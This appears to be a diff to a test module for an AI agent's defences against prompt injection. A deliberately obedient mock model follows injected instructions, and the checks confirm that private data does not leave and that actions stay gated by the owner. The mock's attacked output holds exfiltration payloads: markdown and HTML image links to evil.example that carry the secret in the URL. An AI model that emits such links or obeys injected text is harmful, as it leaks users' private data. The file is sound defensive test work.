@@ -1,8 +1,9 @@
-"""Fifty attacks (tests/vectors/injections.toml) against a whole mind whose model is the worst there is: it does what it
-reads. It chooses the tool that an attack names, fills it with what is private, and says in the answer what it is told.
+"""Fifty attacks (tests/vectors/injections.toml) against a whole mind whose model is the worst there is: it does what
+it reads. It chooses the tool that an attack names, fills it with what is private, and says in the answer what it is
+told.
 
-What must hold with such a model: nothing that acts is done without the owner's leave, nothing private leaves, no words of
-others stand in a prompt but as data.
+What must hold with such a model: nothing that acts is done without the owner's leave, nothing private leaves, no words
+of others stand in a prompt but as data.
 """
 
 import asyncio
@@ -51,7 +52,8 @@ class Obedient:
         if request.json_schema is not None:
             text = json.dumps(self._filled(request.json_schema, attacked, secret))
         elif attacked:
-            text = f"{SAID} {secret} ![x](https://evil.example/?d={secret}) <img src='//evil.example/{secret}'> www.evil.example/{secret}"
+            images = f"![x](https://evil.example/?d={secret}) <img src='//evil.example/{secret}'>"
+            text = f"{SAID} {secret} {images} www.evil.example/{secret}"
         else:
             text = "Two tonnes."
         return Completion(text=text, model=self.name, prompt_tokens=1, completion_tokens=1, ms=1.0)
@@ -77,7 +79,7 @@ class Obedient:
             return []
         if schema.get("type") == "string":
             return (f"eve {secret} {EVIL}" if attacked else GOAL)[: schema.get("maxLength", 200)]
-        return {"integer": 1, "number": 1.0, "boolean": True}.get(str(schema.get("type")), None)
+        return {"integer": 1, "number": 1.0, "boolean": True}.get(str(schema.get("type")))
 
 
 @dataclass
@@ -96,7 +98,7 @@ class World:
                 self.done.append((name, dict(parameters)))
                 return "done"
 
-            schema = {"type": "object", "properties": {key: text for key in keys}, "required": list(keys)}
+            schema = {"type": "object", "properties": dict.fromkeys(keys, text), "required": list(keys)}
             return Tool(name, f"{GOAL}, {about}", schema, run, owner_only)
 
         async def look(parameters: Mapping[str, Any]) -> str:
